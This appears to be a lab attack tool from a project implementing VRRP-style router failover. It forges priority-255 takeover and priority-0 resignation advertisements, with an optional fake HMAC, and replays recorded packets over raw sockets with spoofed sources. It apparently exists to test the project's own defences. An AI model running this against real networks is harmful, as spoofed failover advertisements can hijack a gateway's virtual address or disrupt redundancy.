"""Somebody on the segment who forges advertisements: `better` claims the role with priority 255, `goodbye` resigns in
the active director's name, `replay` plays back what was recorded from the segment. Says at the end how many it sent.

For hosts of the laboratory alone: it needs the right to send with any source.
"""

from __future__ import annotations

import argparse
import os
import socket
import sys
import time
from collections import deque
from ipaddress import IPv4Address

from haman.wire import freshness, ipv4, vrrp
from haman.wire.advertisement import GROUPS, Advertisement
from haman.wire.packet import PROTOCOL_VRRP, TTL, Packet

BATCH = 0.005
"""Seconds between two turns of sending; what falls into one is sent at once."""

RECORDED = 1000
"""Packets that a recording holds: the latest."""


def forged(priority: int, source: IPv4Address, vip: IPv4Address, vrid: int, interval: float, *, signed: bool) -> bytes:
    """signed: with a trailer of this moment and an HMAC made up, which costs a receiver the most."""
    message = vrrp.encode(Advertisement(vrid, priority, interval, (vip,)), source, GROUPS[4])
    if signed:
        message += b"\x01\x01\0\0" + freshness.of_clock(time.time()).to_bytes(8, "big") + os.urandom(16)
    return ipv4.wrap(Packet(source, GROUPS[4], TTL, message))


def record(interface: str, seconds: float) -> list[bytes]:
    """What the segment says, as packets with their IP headers."""
    heard: deque[bytes] = deque(maxlen=RECORDED)
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as ear:
        ear.bind((interface, 0x0800))
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            ear.settimeout(left)
            try:
                data = ear.recv(2048)
            except TimeoutError:
                break
            if len(data) > 20 and data[9] == PROTOCOL_VRRP:
                heard.append(data)
    return list(heard)


def main() -> int:
    parser = argparse.ArgumentParser(prog="attacker")
    parser.add_argument("kind", choices=["better", "goodbye", "replay"])
    parser.add_argument("--interface", default="eth0")
    parser.add_argument("--source", type=IPv4Address, default=IPv4Address("10.0.0.66"))
    parser.add_argument("--vip", type=IPv4Address, default=IPv4Address("10.0.0.100"))
    parser.add_argument("--vrid", type=int, default=51)
    parser.add_argument("--interval", type=float, default=0.1, help="as the directors', seconds")
    parser.add_argument("--rate", type=float, default=20.0, help="packets a second")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--record", type=float, default=2.0, help="how long to listen before a replay, seconds")
    parser.add_argument("--signed", action="store_true", help="with a signature that is made up")
    options = parser.parse_args()
    words = options.source, options.vip, options.vrid, options.interval
    packets: list[bytes] = record(options.interface, options.record) if options.kind == "replay" else []
    sent, renewed, begun = 0, -1, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as mouth:
        mouth.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, options.interface.encode() + b"\0")
        print("begins", flush=True)
        while (age := time.monotonic() - begun) < options.seconds:
            if options.kind != "replay" and int(age) != renewed:
                renewed = int(age)
                packets = [forged({"better": 255, "goodbye": 0}[options.kind], *words, signed=options.signed)]
            due = int(age * options.rate) + 1 - sent
            for _ in range(min(due, int(options.rate * BATCH * 4) + 1) if packets else 0):
                mouth.sendto(packets[sent % len(packets)], (str(GROUPS[4]), 0))
                sent += 1
            time.sleep(BATCH)
    print(f"sent {sent} in {time.monotonic() - begun:.2f} s", flush=True)
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
